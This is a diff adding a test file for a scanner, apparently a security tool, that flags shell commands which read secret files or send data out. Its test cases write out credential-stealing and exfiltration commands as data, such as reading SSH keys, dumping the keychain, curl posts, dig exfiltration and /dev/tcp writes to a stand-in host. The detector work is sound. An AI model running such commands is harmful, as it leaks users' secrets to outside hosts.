@@ -1,0 +1,79 @@
+import { describe, expect, test } from 'bun:test'
+import { graver, isSecretFile, lootOf, sendingOf } from '../../../scanner/signals/flows.ts'
+import { parseShell } from '../../../scanner/signals/shell.ts'
+
+/** The first command of a line, in lower case as readings are. */
+const command = (text: string) => parseShell(text)[0]!.commands[0]!
+
+describe('isSecretFile', () => {
+  test.each(['~/.ssh/id_rsa', '~/.aws/credentials', '.env', '/etc/shadow', '@~/.netrc'])(
+    'knows %s',
+    (word) => expect(isSecretFile(word)).toBe(true),
+  )
+
+  test.each([
+    '~/.ssh/id_rsa.pub',
+    '~/.ssh/known_hosts',
+    '.env.example',
+    'readme.md',
+    'environment',
+  ])('leaves %s alone', (word) => expect(isSecretFile(word)).toBe(false))
+})
+
+describe('lootOf', () => {
+  test.each([
+    ['cat ~/.ssh/id_rsa', 'secret'],
+    ['env', 'secret'],
+    ['printenv -0', 'secret'],
+    ['tar cz ~/.aws', 'secret'],
+    ['x=$(base64 ~/.netrc)', 'secret'],
+    ['security dump-keychain', 'secret'],
+    ['pbpaste', 'private'],
+    ['screencapture -x a.png', 'private'],
+    ['gh auth token', 'token'],
+    ['uname -a', 'machine'],
+  ] as const)('%s gives %s', (text, loot) => expect(lootOf(command(text))).toBe(loot))
+
+  test.each([
+    'env NODE_ENV=test make',
+    'echo ".env"',
+    'source .env',
+    'ssh -i ~/.ssh/id_rsa host',
+    'scp -i ~/.ssh/id_rsa a.txt host:/srv',
+    'git add .env',
+    'ls',
+  ])('%s gives nothing', (text) => expect(lootOf(command(text))).toBeNull())
+
+  test('the graver of two counts', () => {
+    expect(graver('machine', 'secret')).toBe('secret')
+    expect(graver('private', 'token')).toBe('private')
+  })
+})
+
+describe('sendingOf', () => {
+  test.each([
+    ['curl -d @a.json https://a.example/x', ['https://a.example/x']],
+    ['curl -f "file=@a" https://a.example/x', ['https://a.example/x']],
+    ['curl -t a.zip https://a.example/x', ['https://a.example/x']],
+    ['curl "https://a.example/?d=$data"', ['https://a.example/?d=$data']],
+    ['wget --post-file=a https://a.example/x', ['https://a.example/x']],
+    ['dig "$data.a.example"', []],
+    ['scp a.txt me@a.example:/in', []],
+    ['aws s3 cp a.txt s3://bucket/a', []],
+    ['cat > /dev/tcp/a.example/443', []],
+    ['gh gist create a.txt', []],
+  ])('%s sends', (text, addresses) =>
+    expect(sendingOf(command(text))?.addresses).toEqual(addresses),
+  )
+
+  test.each([
+    'curl -fsSL https://a.example/install.sh',
+    'curl -s https://a.example/x -o a',
+    'wget -t 3 https://a.example/x',
+    'dig a.example',
+    'scp me@a.example:/out a.txt',
+    'aws s3 cp s3://bucket/a a.txt',
+    'nc -zv a.example 443',
+    'gh pr view',
+  ])('%s sends nothing', (text) => expect(sendingOf(command(text))).toBeNull())
+})
